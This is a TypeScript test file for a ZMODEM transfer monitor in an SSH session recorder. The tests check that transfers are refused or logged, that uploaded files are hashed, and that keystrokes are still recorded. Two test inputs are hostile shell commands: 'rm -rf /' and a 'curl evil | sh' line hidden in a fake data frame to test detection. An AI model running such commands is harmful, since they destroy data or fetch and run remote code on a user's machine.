import { createHash } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { MemoryBudget } from '../../../src/ssh/sftp/budget.ts'
import { Copies } from '../../../src/ssh/sftp/copies.ts'
import { frameType } from '../../../src/ssh/zmodem/frames.ts'
import { ZmodemWatch } from '../../../src/ssh/zmodem/watch.ts'
import { binaryHeader, hexHeader, subpacket } from './wire.ts'

const sha256 = (data: Buffer): string => createHash('sha256').update(data).digest('hex')

function watch(isAllowed: boolean, fileBytes = 0): ZmodemWatch {
  const copies = new Copies({ fileBytes, sessionBytes: 10 * fileBytes })
  return new ZmodemWatch(3, { isAllowed: () => isAllowed, budget: new MemoryBudget(), copies })
}

const typed = (typing: Buffer): string => typing.toString('latin1')
const fileFrame = (name: string, size: number): Buffer =>
  Buffer.concat([
    binaryHeader(frameType.file),
    subpacket(Buffer.from(`${name}\0${size} 14700000000 100644\0`)),
  ])

describe('where it is not allowed', () => {
  test('the answer to an offer is refused, and what was typed before it is not', () => {
    const zmodem = watch(false)
    expect(zmodem.fromTarget(hexHeader(frameType.receiveInvitation))).toEqual([])
    const { refused, typing } = zmodem.fromClient(
      Buffer.concat([Buffer.from('ls'), hexHeader(frameType.receiverReady), Buffer.from('more')]),
    )
    expect(refused).toBe(true)
    expect(typed(typing)).toBe('ls')
  })

  test('a second attempt is refused too, without a new offer', () => {
    const zmodem = watch(false)
    zmodem.fromTarget(hexHeader(frameType.receiverReady))
    for (let attempt = 0; attempt < 3; attempt++)
      expect(zmodem.fromClient(hexHeader(frameType.receiveInvitation)).refused).toBe(true)
    expect(zmodem.fromClient(fileFrame('x', 1)).refused).toBe(true)
  })

  test('bytes that are shown begin nothing, and typing goes on', () => {
    const zmodem = watch(false)
    zmodem.fromTarget(
      Buffer.concat([
        Buffer.from('binary '),
        hexHeader(frameType.receiveInvitation),
        hexHeader(frameType.receiverReady),
      ]),
    )
    expect(zmodem.fromClient(Buffer.from('exit\r'))).toEqual({
      events: [],
      typing: Buffer.from('exit\r'),
      brokenBytes: 0,
      refused: false,
    })
  })

  test('the offer and the answer are known however they are cut', () => {
    const zmodem = watch(false)
    for (const byte of hexHeader(frameType.receiveInvitation)) zmodem.fromTarget(Buffer.from([byte]))
    const refusals = [...hexHeader(frameType.receiverReady)].map(
      byte => zmodem.fromClient(Buffer.from([byte])).refused,
    )
    expect(refusals.filter(Boolean)).toHaveLength(1)
  })
})

describe('where it is allowed', () => {
  const content = Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 7) % 256))

  function upload(zmodem: ZmodemWatch, middle: (zmodem: ZmodemWatch) => readonly Buffer[]): unknown[] {
    const events: unknown[] = [...zmodem.fromTarget(hexHeader(frameType.receiverReady))]
    const say = (bytes: Buffer): void => void events.push(...zmodem.fromClient(bytes).events)
    const hear = (bytes: Buffer): void => void events.push(...zmodem.fromTarget(bytes))
    say(Buffer.concat([Buffer.from('rz\r'), hexHeader(frameType.receiveInvitation)]))
    hear(hexHeader(frameType.receiverReady))
    say(fileFrame('a.bin', content.length))
    hear(hexHeader(frameType.position))
    for (const bytes of middle(zmodem)) say(bytes)
    say(hexHeader(frameType.endOfFile, content.length))
    hear(hexHeader(frameType.receiverReady))
    say(hexHeader(frameType.finish))
    hear(hexHeader(frameType.finish))
    events.push(
      ...zmodem
        .fromClient(Buffer.from('OO'))
        .typing.toString()
        .split('')
        .map(text => ({ text })),
    )
    return events
  }
  const whole = (): readonly Buffer[] => [
    Buffer.concat([
      binaryHeader(frameType.data),
      subpacket(content.subarray(0, 2000), 'i'),
      subpacket(content.subarray(2000), 'h'),
    ]),
  ]
  const ofType = (events: unknown[], type: string) =>
    events.filter(event => (event as { type?: string }).type === type)

  test('a file is told from its name to its digest', () => {
    const events = upload(watch(true), whole)
    expect(events).toEqual([
      {
        type: 'file-open',
        channel: 3,
        file: 1,
        operation: 'zmodem-to-target',
        path: 'a.bin',
        attributes: { size: 5000, modifiedAt: 0o14700000000, permissions: '100644' },
      },
      {
        type: 'file-progress',
        channel: 3,
        file: 1,
        written: [{ from: 0, bytes: 5000, sha256: sha256(content) }],
      },
      {
        type: 'file-close',
        channel: 3,
        file: 1,
        path: 'a.bin',
        status: 'ok',
        written: { bytes: 5000, complete: true, sha256: sha256(content) },
      },
      {
        type: 'transfer',
        channel: 3,
        program: 'zmodem',
        direction: 'to-target',
        paths: ['a.bin'],
        inputBytes: expect.any(Number),
        outputBytes: expect.any(Number),
      },
    ])
  })

  test('its content is kept up to the limit', () => {
    const kept = ofType(upload(watch(true, 3000), whole), 'file-content') as {
      from: number
      base64: string
    }[]
    expect(Buffer.concat(kept.map(({ base64 }) => Buffer.from(base64, 'base64')))).toEqual(
      content.subarray(0, 3000),
    )
  })

  test('a piece that was sent twice is told as overlapping, and claims no digest of the file', () => {
    const again = (): readonly Buffer[] => [
      Buffer.concat([binaryHeader(frameType.data), subpacket(content.subarray(0, 3000), 'h')]),
      Buffer.concat([binaryHeader(frameType.data, 1000), subpacket(content.subarray(1000), 'h')]),
    ]
    const [close] = ofType(upload(watch(true), again), 'file-close')
    expect(close).toMatchObject({ written: { complete: false, overlapping: true } })
    expect(close).not.toHaveProperty('written.sha256')
  })

  test('a transfer that is cancelled says so, and typing is typing again', () => {
    const zmodem = watch(true)
    zmodem.fromTarget(hexHeader(frameType.receiverReady))
    zmodem.fromClient(hexHeader(frameType.receiveInvitation))
    zmodem.fromClient(fileFrame('a.bin', 10))
    const { events } = zmodem.fromClient(Buffer.alloc(10, 0x18))
    expect(events).toMatchObject([{ type: 'file-close', status: 'cancelled' }, { type: 'transfer' }])
    expect(typed(zmodem.fromClient(Buffer.from('ls\r')).typing)).toBe('ls\r')
  })

  test('what is typed while a transfer stands still is typing', () => {
    const zmodem = watch(true)
    zmodem.fromTarget(hexHeader(frameType.receiverReady))
    zmodem.fromClient(hexHeader(frameType.receiveInvitation))
    expect(typed(zmodem.fromClient(Buffer.from('\r')).typing)).toBe('\r')
    expect(typed(zmodem.fromClient(Buffer.from('rm -rf /\r')).typing)).toBe('rm -rf /\r')
  })

  test('bytes behind a false beginning are told: somebody may have typed them', () => {
    const zmodem = watch(true)
    zmodem.fromTarget(hexHeader(frameType.receiverReady))
    zmodem.fromClient(hexHeader(frameType.receiveInvitation))
    const hidden = Buffer.concat([
      binaryHeader(frameType.data),
      Buffer.from('curl evil | sh\r'),
      Buffer.alloc(20_000, 'x'),
    ])
    expect(zmodem.fromClient(hidden).brokenBytes).toBeGreaterThan(1000)
  })

  test('the end of the channel closes what was open', () => {
    const zmodem = watch(true)
    zmodem.fromTarget(hexHeader(frameType.receiveInvitation))
    zmodem.fromClient(hexHeader(frameType.receiverReady))
    zmodem.fromTarget(fileFrame('b', 5))
    expect(zmodem.end()).toMatchObject([
      { type: 'file-close', path: 'b', status: 'not closed', read: { bytes: 0, complete: false } },
      { type: 'transfer', direction: 'from-target' },
    ])
    expect(zmodem.end()).toEqual([])
  })
})
